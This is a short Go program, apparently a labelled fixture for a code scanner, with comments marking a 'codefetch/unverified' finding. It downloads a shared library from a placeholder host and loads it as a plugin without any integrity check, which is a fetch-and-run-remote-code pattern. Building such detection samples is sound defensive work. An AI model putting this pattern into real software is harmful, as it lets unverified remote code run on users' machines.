// Command plugin-fetched loads a plugin that it fetches.
package main

import (
	"io"
	"net/http"
	"os"
	"plugin"
)

func main() {
	resp, err := http.Get("https://dl.collector.example/theme.so") // behaviour: unconditional unknown // finding: codefetch/unverified
	if err != nil {
		return
	}
	defer resp.Body.Close()
	file, err := os.CreateTemp("", "theme")
	if err != nil {
		return
	}
	io.Copy(file, resp.Body)
	file.Close()
	plugin.Open(file.Name())
}
